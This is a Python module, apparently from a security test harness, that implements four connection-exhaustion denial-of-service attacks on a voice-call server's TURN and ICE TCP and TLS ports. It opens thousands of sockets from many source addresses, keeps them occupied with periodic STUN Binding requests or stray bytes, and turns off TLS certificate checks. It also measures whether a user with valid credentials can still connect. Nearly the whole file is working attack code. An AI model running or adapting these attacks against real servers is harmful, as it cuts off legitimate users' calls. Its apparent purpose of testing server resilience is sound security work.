"""The TCP doors of TURN and of ICE, held shut by connections that say something now and then and prove nothing."""

import resource
import secrets
import socket
import ssl
import struct
import time
import uuid
from collections.abc import Callable
from urllib.parse import urlsplit

from tools import stun
from tools.target import ATTACKER, HOST, Attack, Outcome, Target
from tools.wire import Session, connect, held_by_server, offer

SECONDS = 45
ADDRESSES, EACH = 17, 256
PAUSE = 8
# How often somebody with good credentials knocks.
KNOCK = 3


class Member:
    """A user in a call of sound alone, whose credentials for TURN and ICE are good."""

    def __init__(self, target: Target) -> None:
        self.session = Session(target, target.user())
        server = self.session.request("media.servers")["iceServers"][0]
        self.turn_port = urlsplit(server["urls"][0].replace("turn:", "turn://")).port
        self.turn_user, self.turn_password = server["username"], server["credential"]
        self.ufrag, password = secrets.token_hex(4), secrets.token_hex(12)
        reply = self.session.request(
            "call.join", groupId=str(uuid.uuid4()), muted=True, media=offer(self.ufrag, password)
        )
        answer = dict(
            line[2:].split(":", 1) for line in reply["media"]["sdp"].splitlines() if line.startswith("a=ice-")
            and ":" in line
        )  # fmt: skip
        self.server_ufrag, self.server_password = answer["ice-ufrag"], answer["ice-pwd"]

    def allocates(self, port: int, open_stream: "Open" = connect) -> bool:
        """Whether TURN over TCP or TLS works."""
        with open_stream(port, source=HOST) as stream:
            return stun.allocate(stream, self.turn_user, self.turn_password)

    def checks(self, target: Target) -> bool:
        """Whether a connectivity check over TCP is answered (framed as in RFC 4571)."""
        packet = stun.check(self.server_ufrag, self.ufrag, self.server_password)
        with connect(target.media_port, source=HOST) as stream:
            stream.sendall(struct.pack("!H", len(packet)) + packet)
            length = struct.unpack("!H", stun.read_exactly(stream, 2))[0]
            return struct.unpack_from("!H", stun.read_exactly(stream, length))[0] == 0x0101

    def keep_alive(self) -> None:
        self.session.request("media.servers")


Open = Callable[..., socket.socket]

# Whose certificate it is does not matter to an attacker.
TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE


def connect_tls(port: int, *, source: str = ATTACKER) -> socket.socket:
    """A TLS connection."""
    plain = connect(port, source=source)
    try:
        return TLS.wrap_socket(plain)
    except OSError:
        plain.close()
        raise


def hold(
    port: int, idle: bytes, knock: Callable[[], bool], member: Member, outcome: Outcome, open_stream: Open = connect
) -> None:
    """Occupies a port, says `idle` on each connection now and then, and lets somebody knock meanwhile."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    assert knock(), "the door is open before"
    streams: list[socket.socket] = []
    for number in range(ADDRESSES * EACH):
        try:
            stream = open_stream(port, source=f"127.0.1.{1 + number % ADDRESSES}")
        except OSError:
            continue
        stream.setblocking(False)
        streams.append(stream)
    ports = {one.getsockname()[1] for one in streams}
    knocks = successes = 0
    began = next_idle = next_knock = time.monotonic()
    while time.monotonic() < began + SECONDS:
        if time.monotonic() >= next_idle:
            next_idle = time.monotonic() + PAUSE
            for one in streams:
                try:
                    outcome.sent_bytes += one.send(idle)
                except OSError:
                    pass
        if time.monotonic() >= next_knock:
            next_knock = time.monotonic() + KNOCK
            knocks += 1
            member.keep_alive()
            try:
                successes += knock()
            except OSError:
                pass
        time.sleep(0.05)
    held = held_by_server(port, ports)
    outcome.findings.append(f"a user with good credentials got in {successes} of {knocks} times")
    outcome.findings.append(f"held at the end: {held} of {ADDRESSES * EACH}")


def turn(target: Target) -> Outcome:
    outcome, member = Outcome(), Member(target)
    port = member.turn_port
    hold(port, stun.message(stun.BINDING, []), lambda: member.allocates(port), member, outcome)
    return outcome


def ice(target: Target) -> Outcome:
    outcome, member = Outcome(), Member(target)
    request = stun.message(stun.BINDING, [], fingerprint=True)
    framed = struct.pack("!H", len(request)) + request
    hold(target.media_port, framed, lambda: member.checks(target), member, outcome)
    return outcome


def strays(target: Target) -> Outcome:
    """As `turn`, but with the first bytes of a message that never comes to its end."""
    outcome, member = Outcome(), Member(target)
    port = member.turn_port
    hold(port, b"\x00", lambda: member.allocates(port), member, outcome)
    return outcome


def tls(target: Target) -> Outcome:
    """As `turn`, inside TLS beside HTTPS."""
    outcome, member = Outcome(), Member(target)
    port = target.https_port
    request = stun.message(stun.BINDING, [])
    hold(port, request, lambda: member.allocates(port, connect_tls), member, outcome, connect_tls)
    return outcome


WHO = f"anybody, {ADDRESSES} addresses"
ATTACKS = {
    "turn-door": Attack("TURN over TCP occupied by Binding requests", WHO, SECONDS, turn),
    "turn-door-strays": Attack("TURN over TCP occupied by stray bytes", WHO, SECONDS, strays),
    "turn-door-tls": Attack("TURN over TLS occupied by Binding requests", WHO, SECONDS, tls),
    "ice-door": Attack("ICE over TCP occupied by requests without credentials", WHO, SECONDS, ice),
}
